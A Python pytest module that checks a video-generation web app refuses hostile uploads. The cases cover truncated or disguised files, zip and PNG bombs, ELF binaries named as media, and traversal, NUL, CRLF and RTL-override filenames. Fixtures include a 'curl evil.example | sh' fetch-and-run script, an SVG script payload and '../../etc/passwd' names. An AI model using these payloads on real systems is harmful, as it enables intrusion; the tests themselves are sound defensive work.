"""Issue H: upload abuse. Each scenario records its figure.

Through the entry point the UI uses (`uploads.spool_and_ingest`, fed like Reflex's chunk iterator) and
through the real /_upload route: damaged and disguised files, bombs, 0 bytes, path-traversal /
NUL / huge / unicode names, another user's task, an mp4 whose headers lie about its duration.
Nothing may land outside the storage root, nothing is stored for a refusal, the spool folder is
left empty. (Probe refusals one by one are tests/adapters/test_media.py's, the streamed upload
over the size limit tests/services/test_tasks.py's.)
"""

from __future__ import annotations

import asyncio
import io
import json
import os
import struct
import sys
import time
import uuid
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from sqlmodel import select
from starlette.testclient import TestClient

from tests.helpers import login_session, make_user
from tests.scenarios import abuse_helpers
from tests.scenarios.abuse_helpers import BOTH, CHUNK, ORIGIN, SQLITE, MiB
from vgen_app import catalog
from vgen_app.config import get_settings
from vgen_app.db import session_scope, with_db
from vgen_app.models import TaskInput
from vgen_app.services import sessions, tasks

client = abuse_helpers.client
secrets_set = abuse_helpers.secrets_set
storage_root = abuse_helpers.storage_root


class Chunks:
    """What Reflex's UploadChunkIterator yields for one file: 64 KiB pieces (one empty chunk for an
    empty file), under the multipart filename."""

    def __init__(self, filename: str, data: bytes) -> None:
        self.filename, self.data, self.offset = filename, data, 0
        self.sent_empty = False

    def __aiter__(self) -> Chunks:
        return self

    async def __anext__(self) -> Any:
        from reflex_components_core.core._upload import UploadChunk

        if self.offset >= len(self.data) and (self.data or self.sent_empty):
            raise StopAsyncIteration
        piece = self.data[self.offset : self.offset + CHUNK]
        chunk = UploadChunk(
            filename=self.filename, offset=self.offset, content_type="video/mp4", data=piece
        )
        self.offset += len(piece)
        self.sent_empty = True
        return chunk


def upload_like_the_ui(
    user_id: str, task_id: str, slot_name: str, filename: str, data: bytes, model: str = ""
) -> str:
    """The UI's path after its session check: spool the stream, probe, store (ingest checks the
    task's owner again). Returns the message the page shows ('' when accepted)."""
    from vgen_app.services.uploads import spool_and_ingest

    model = model or ("faceswap" if slot_name == "image" else "lipsync")
    slot = catalog.get(model).get_slot(slot_name)
    assert slot is not None
    return asyncio.run(spool_and_ingest(Chunks(filename, data), user_id, task_id, slot))


def files_under(folder: Path, skip: tuple[str, ...] = ("outbox",)) -> set[Path]:
    return {
        p
        for p in folder.rglob("*")
        if (p.is_file() or p.is_symlink())
        and not any(part in skip for part in p.relative_to(folder).parts)
    }


def _box(data: bytes, name: bytes) -> tuple[int, int]:
    """(start, size) of the first top-level MP4 box called `name`."""
    pos = 0
    while pos + 8 <= len(data):
        size, kind = struct.unpack(">I4s", data[pos : pos + 8])
        if kind == name:
            return pos, size
        pos += size if size >= 8 else len(data)
    raise AssertionError(f"no {name!r} box")


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def _png(width: int, height: int, idat: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


@pytest.fixture(scope="module")
def hostile(
    tmp_path_factory: pytest.TempPathFactory, samples: dict[str, Path]
) -> dict[str, tuple[str, bytes]]:
    """slot -> (filename, bytes) of every hostile file, made once."""
    from tests.fakes.media_samples import make_image

    d = tmp_path_factory.mktemp("hostile")
    video = samples["video"].read_bytes()
    jpeg = make_image(d / "face.jpg", size="640x480").read_bytes()
    png = samples["image"].read_bytes()
    elf = Path(os.path.realpath(sys.executable)).read_bytes()[:200_000]
    assert elf.startswith(b"\x7fELF")
    start, size = _box(video, b"moov")
    moov_zeroed = video[: start + 8] + b"\x00" * (size - 8) + video[start + size :]
    zeros = zlib.compress(b"\x00" * (10 * MiB), 9)
    return {
        "truncated mp4 (30%)": ("video", "clip.mp4", video[: len(video) * 3 // 10]),
        "mp4 with its moov box zeroed": ("video", "clip.mp4", moov_zeroed),
        "jpeg cut at 60%": ("image", "face.jpg", jpeg[: len(jpeg) * 6 // 10]),
        "png cut at 90%": ("image", "face.png", png[: len(png) * 9 // 10]),
        "ELF executable as .mp4": ("video", "movie.mp4", elf),
        "ELF executable as .png": ("image", "face.png", elf),
        "shell script as .mp4": ("video", "run.mp4", b"#!/bin/sh\ncurl evil.example | sh\n" * 40),
        "HTML/SVG with script as .png": (
            "image",
            "face.png",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
        ),
        "zip holding a real mp4 as .mp4": ("video", "clip.mp4", _zip({"clip.mp4": video})),
        "zip as .png": ("image", "face.png", _zip({"a.txt": b"hello" * 100})),
        "zip bomb (50 MiB of zeros in ~50 KiB) as .mp4": (
            "video",
            "bomb.mp4",
            _zip({"zeros.bin": b"\x00" * (50 * MiB)}),
        ),
        "png declaring 100000x100000 in 10 KiB": (
            "image",
            "bomb.png",
            _png(100_000, 100_000, zeros),
        ),
        "png declaring 8193x16 (over the side limit)": ("image", "wide.png", _png(8193, 16, zeros)),
        "0 bytes": ("video", "empty.mp4", b""),
        "real mp4 named .exe": ("video", "clip.exe", video),
        "real mp4 named with an RTL override (clip\u202e4pm.exe)": (
            "video",
            "clip\u202e4pm.exe",
            video,
        ),
        "real mp4 named only '.mp4'": ("video", ".mp4", video),
        "real mp4 named 'clip.mp4\\x00.exe'": ("video", "clip.mp4\x00.exe", video),
    }


HOSTILE_IDS = [
    "truncated mp4 (30%)",
    "mp4 with its moov box zeroed",
    "jpeg cut at 60%",
    "png cut at 90%",
    "ELF executable as .mp4",
    "ELF executable as .png",
    "shell script as .mp4",
    "HTML/SVG with script as .png",
    "zip holding a real mp4 as .mp4",
    "zip as .png",
    "zip bomb (50 MiB of zeros in ~50 KiB) as .mp4",
    "png declaring 100000x100000 in 10 KiB",
    "png declaring 8193x16 (over the side limit)",
    "0 bytes",
    "real mp4 named .exe",
    "real mp4 named with an RTL override (clip\u202e4pm.exe)",
    "real mp4 named only '.mp4'",
    "real mp4 named 'clip.mp4\\x00.exe'",
]


@SQLITE
@pytest.mark.parametrize("case", HOSTILE_IDS)
def test_hostile_upload_is_refused_and_leaves_nothing(
    database_url: str, storage_root: Path, tmp_path: Path, hostile: dict, case: str, figure: Any
) -> None:
    slot, filename, data = hostile[case]
    with session_scope() as db:
        ann = make_user(db, "ann@example.com")
        task = tasks.create_task(db, ann, "faceswap" if slot == "image" else "lipsync")
    before = files_under(tmp_path)
    start = time.perf_counter()
    message = upload_like_the_ui(ann, task.id, slot, filename, data)
    seconds = time.perf_counter() - start
    assert message, "accepted"
    assert "Traceback" not in message and str(tmp_path) not in message and "\x00" not in message
    assert files_under(tmp_path) == before  # nothing stored, nothing spooled, nothing elsewhere
    assert with_db(lambda db: db.exec(select(TaskInput)).all()) == []
    figure(
        f"{case} ({len(data):,} B): refused in {seconds * 1000:.0f} ms with {message!r}; 0 files left"
    )


TRAVERSAL_NAMES = [
    ("../../etc/passwd.mp4", "passwd.mp4"),
    ("/etc/passwd.mp4", "passwd.mp4"),
    ("..\\..\\..\\windows\\system32\\evil.mp4", "evil.mp4"),
    ("C:\\Users\\x\\clip.mp4", "clip.mp4"),
    ("dir/../../../../tmp/x.mp4", "x.mp4"),
    ("a\x00b.mp4", "ab.mp4"),
    ("clip\r\nX-Injected: 1.mp4", "clipX-Injected: 1.mp4"),
    ("x" * 10_000 + ".mp4", "x" * 251 + ".mp4"),
    ("видео 🎬 «final».mp4", "видео 🎬 «final».mp4"),
    ("e\u0301te\u0301.mp4", "\u00e9t\u00e9.mp4"),  # NFD -> NFC
    ("%2e%2e%2fetc%2fpasswd.mp4", "%2e%2e%2fetc%2fpasswd.mp4"),  # stored as text, never decoded
]


@BOTH
def test_hostile_names_are_stored_under_safe_keys(
    database_url: str, storage_root: Path, tmp_path: Path, samples: dict[str, Path], figure: Any
) -> None:
    """A real video under each hostile name: accepted, stored at `inputs/<task>/<slot>/<id>.mp4`
    inside the storage root, recorded under a clean display name; nothing written anywhere else.
    (A NUL byte in a name used to reach PostgreSQL, which refuses it: the upload crashed.)"""
    video = samples["video"].read_bytes()
    with session_scope() as db:
        ann = make_user(db, "ann@example.com")
    root = storage_root.resolve()
    for raw, shown in TRAVERSAL_NAMES:
        with session_scope() as db:
            task = tasks.create_task(db, ann, "lipsync")
        before = files_under(tmp_path)
        assert upload_like_the_ui(ann, task.id, "video", raw, video) == "", raw
        new = files_under(tmp_path) - before
        (stored,) = new
        assert stored.resolve().is_relative_to(root)
        key = stored.resolve().relative_to(root).as_posix()
        assert key.startswith(f"inputs/{task.id}/video/") and key.endswith(".mp4")
        with session_scope() as db:
            row = db.exec(select(TaskInput).where(TaskInput.task_id == task.id)).one()
            stored_key, name = row.storage_key, row.filename
        assert stored_key == key and name == shown, (raw, name)
        assert not any(c in name for c in "/\\\x00\r\n") and len(name) <= 255
    for target in ("/etc/passwd.mp4", "/tmp/x.mp4", str(Path.cwd() / "passwd.mp4")):
        assert not Path(target).exists()
    assert not list(get_settings().upload_tmp_dir.iterdir())
    figure(
        f"{len(TRAVERSAL_NAMES)} hostile names (../, absolute, backslashes, NUL, CRLF, 10k chars, "
        f"unicode) on a real video: all stored under inputs/<task>/video/<id>.mp4 in the root, "
        f"0 files outside, names recorded clean"
    )


@BOTH
def test_upload_into_another_users_task_stores_nothing(
    database_url: str, storage_root: Path, tmp_path: Path, samples: dict[str, Path], figure: Any
) -> None:
    with session_scope() as db:
        ann = make_user(db, "ann@example.com")
        eve = make_user(db, "eve@example.com")
        task = tasks.create_task(db, ann, "lipsync")
    before = files_under(tmp_path)
    tries = 0
    for task_id in (task.id, task.id + "x", "\x00", "../" + task.id, "a" * 5000):
        message = upload_like_the_ui(
            eve, task_id, "video", "clip.mp4", samples["video"].read_bytes()
        )
        assert message == "This task does not exist.", (task_id, message)
        tries += 1
    assert files_under(tmp_path) == before
    assert with_db(lambda db: db.exec(select(TaskInput)).all()) == []
    figure(
        f"{tries} uploads of a real video into ann's (or junk) task ids by eve: 'does not exist', 0 stored"
    )


PENDING = "<pending>"


def _multipart(filename: bytes, data: bytes, slot: str) -> tuple[bytes, str]:
    """The body the browser sends (the bound `slot` argument first, then the file part); the
    filename as raw header bytes, as browsers send non-ASCII names."""
    boundary = "vgenabuse" + uuid.uuid4().hex
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="__reflex_event_args"\r\n\r\n'
        f"{json.dumps({'slot': slot})}\r\n--{boundary}\r\n"
    ).encode()
    part = (
        b'Content-Disposition: form-data; name="files"; filename="' + filename + b'"\r\n'
        b"Content-Type: video/mp4\r\n\r\n"
    )
    tail = f"\r\n--{boundary}--\r\n".encode()
    return head + part + data + tail, f"multipart/form-data; boundary={boundary}"


class RealUploads:
    """Drives TaskState.upload_slot through POST /_upload on the running app: a tab's state is
    primed the way a socket connection leaves it (headers with the cookie, the task page's path)."""

    def __init__(self, client: TestClient, storage_url: str) -> None:
        from reflex_base.utils import format as rx_format

        from vgen_app.ui.task import TaskState

        self.client, self.storage_url = client, storage_url
        self.handler = rx_format.format_event_handler(TaskState.upload_slot)

    async def _prime(self, token: str, cookie: str, task_id: str) -> None:
        import reflex as rx
        from reflex.istate.data import RouterData

        from vgen_app.ui.task import TaskState
        from vgen_app.vgen_app import app as rx_app

        router_data = {
            "headers": {"origin": ORIGIN, "cookie": cookie, "user-agent": "abuse test"},
            "pathname": f"/tasks/{task_id}",
            "asPath": f"/tasks/{task_id}",
            "ip": "127.0.0.1",
            "token": token,
        }
        async with rx_app.modify_state(rx.BaseStateToken(ident=token, cls=TaskState)) as root:
            root.router_data = router_data
            root.router = RouterData.from_router_data(router_data)
            state = await root.get_state(TaskState)
            state.task_id = task_id
            state._reset_slots()
            state.upload_error = {k: PENDING for k in state.upload_error}

    async def _read(self, token: str, slot: str) -> tuple[bool, str]:
        import reflex as rx

        from vgen_app.ui.task import TaskState
        from vgen_app.vgen_app import app as rx_app

        async with rx_app.modify_state(rx.BaseStateToken(ident=token, cls=TaskState)) as root:
            state = await root.get_state(TaskState)
            return state.uploading.get(slot, False), state.upload_error.get(slot, "")

    def upload(
        self,
        cookie: str,
        task_id: str,
        filename: bytes,
        data: bytes,
        slot: str = "video",
        wait: bool = True,
    ) -> tuple[int, str | None]:
        """(HTTP status of /_upload, the message the page shows: '' accepted). `wait=False` when
        the handler is expected to return before reading the stream (no message then)."""
        assert get_settings().storage_url == self.storage_url  # the app stores where we look
        token = uuid.uuid4().hex
        self.client.portal.call(self._prime, token, cookie, task_id)
        body, content_type = _multipart(filename, data, slot)
        r = self.client.post(
            "/_upload",
            content=body,
            headers={
                "Content-Type": content_type,
                "reflex-client-token": token,
                "reflex-event-handler": self.handler,
                "Origin": ORIGIN,
            },
        )
        if not wait:
            return r.status_code, None
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            uploading, message = self.client.portal.call(self._read, token, slot)
            if not uploading and message != PENDING:
                return r.status_code, message
            time.sleep(0.05)
        uploading, message = self.client.portal.call(self._read, token, slot)
        return r.status_code, None if message == PENDING else message


@BOTH
def test_real_upload_route_refuses_and_stores_safely(
    client: TestClient,
    storage_root: Path,
    tmp_path: Path,
    samples: dict[str, Path],
    hostile: dict,
    figure: Any,
) -> None:
    video = samples["video"].read_bytes()
    with session_scope() as db:
        ann = make_user(db, "ann@example.com")
        make_user(db, "eve@example.com")
        task = tasks.create_task(db, ann, "lipsync")
        cookies = {
            "ann": f"vgen_session={login_session(db, 'ann@example.com')}",
            "eve": f"vgen_session={login_session(db, 'eve@example.com')}",
        }
    up = RealUploads(client, f"file://{storage_root}")
    root = storage_root.resolve()
    results: dict[str, str] = {}

    def refused(
        label: str,
        cookie: str,
        filename: bytes,
        data: bytes,
        slot: str = "video",
        wait: bool = True,
    ) -> None:
        before = files_under(tmp_path)
        status, message = up.upload(cookie, task.id, filename, data, slot, wait)
        if wait:  # the handler read the stream and refused it with a message for the page
            assert status == 202 and message, (label, status, message)
            results[label] = f"{status}, {message!r}"
        else:  # the handler returned before reading: the stream is dropped (Reflex answers 400,
            # or 202 when the whole small body was parsed before the handler returned)
            assert status in (202, 400), (label, status)
            results[label] = f"{status}, stream not read"
        assert files_under(tmp_path) == before, label

    # Hostile content: refused with the page's message, nothing stored or left in the spool.
    for case in (
        "ELF executable as .mp4",
        "truncated mp4 (30%)",
        "zip bomb (50 MiB of zeros in ~50 KiB) as .mp4",
        "0 bytes",
    ):
        _slot, filename, data = hostile[case]
        refused(case, cookies["ann"], filename.encode(), data)
    # Someone else's task (eve's session, ann's task id in her tab): not found, nothing stored.
    refused("eve into ann's task", cookies["eve"], b"clip.mp4", video)
    # No session, a revoked one: the handler stops before reading the stream.
    refused("no session", "", b"clip.mp4", video, wait=False)
    with session_scope() as db:
        sessions.revoke(db, cookies["ann"].split("=", 1)[1])
    refused("revoked session", cookies["ann"], b"clip.mp4", video, wait=False)
    with session_scope() as db:
        cookies["ann"] = f"vgen_session={login_session(db, 'ann@example.com')}"
    refused("unknown slot '../../x'", cookies["ann"], b"clip.mp4", video, "../../x", wait=False)
    assert with_db(lambda db: db.exec(select(TaskInput)).all()) == []

    # Hostile names on a real video: stored inside the root under an id, the name cleaned.
    for raw, shown in (
        (b"../../etc/passwd.mp4", "passwd.mp4"),
        (b"/abs/olute/clip.mp4", "clip.mp4"),
        (b"..\\..\\evil.mp4", "evil.mp4"),
        (b"a\x00b.mp4", "ab.mp4"),
        ("видео 🎬.mp4".encode(), "видео 🎬.mp4"),
    ):
        before = files_under(tmp_path)
        status, message = up.upload(cookies["ann"], task.id, raw, video)
        assert (status, message) == (202, ""), (raw, status, message)
        after = files_under(tmp_path)
        assert len(after - before) == 1, (raw, sorted(map(str, before)), sorted(map(str, after)))
        (stored,) = after - before  # the new file (the one it replaced is deleted)
        assert stored.resolve().is_relative_to(root) and len(after) == len(before) + (not before)
        with session_scope() as db:
            row = db.exec(select(TaskInput).where(TaskInput.task_id == task.id)).one()
            name, key = row.filename, row.storage_key
        assert name == shown, (raw, name)
        assert stored.resolve().relative_to(root).as_posix() == key
        results[repr(raw.decode("utf-8", "replace"))] = f"{status}, stored as {name!r} at {key}"
    assert not list(get_settings().upload_tmp_dir.iterdir())
    assert not Path("/etc/passwd.mp4").exists() and not Path("/abs").exists()
    figure(
        f"POST /_upload, {len(results)} abuses: "
        + "; ".join(f"{k}: {v}" for k, v in results.items())
    )


@SQLITE
def test_mp4_declaring_a_huge_duration_is_priced_by_its_packets(
    database_url: str, storage_root: Path, samples: dict[str, Path], figure: Any
) -> None:
    """Every duration field in the headers (mvhd, tkhd, mdhd) set to 2^31-1 ticks (~24 days at
    the sample's time scales): the probe measures the packets, so the 2 s clip is stored as 2 s
    and a run costs what 2 s cost — not the header's claim, nor a refusal as too long."""
    data = bytearray(samples["video"].read_bytes())
    patched = 0
    for box, offset in ((b"mvhd", 20), (b"tkhd", 24), (b"mdhd", 20)):
        at = data.find(box)
        while at != -1:
            if data[at + 4] == 0:  # version 0: 32-bit durations
                data[at + offset : at + offset + 4] = struct.pack(">I", 0x7FFFFFFF)
                patched += 1
            at = data.find(box, at + 4)
    assert patched >= 3
    with session_scope() as db:
        ann = make_user(db, "ann@example.com")
        task = tasks.create_task(db, ann, "faceswap")  # priced by the video's duration
    assert upload_like_the_ui(ann, task.id, "video", "long.mp4", bytes(data)) == ""
    face = samples["image"].read_bytes()
    assert upload_like_the_ui(ann, task.id, "image", "face.png", face, "faceswap") == ""
    with session_scope() as db:
        task = tasks.get_task(db, ann, task.id)
        rows = db.exec(select(TaskInput).where(TaskInput.task_id == task.id)).all()
        inputs = {row.slot: row for row in rows}
        duration = inputs["video"].media["duration_s"]
        price = tasks.price_of(task, inputs)
    assert abs(duration - 2.0) < 0.2
    assert price == catalog.get("faceswap").price_for(duration)
    figure(
        f"mp4 whose {patched} header durations claim 2^31-1 ticks: stored as {duration} s, "
        f"a face swap run priced {price} tokens (2 s worth)"
    )
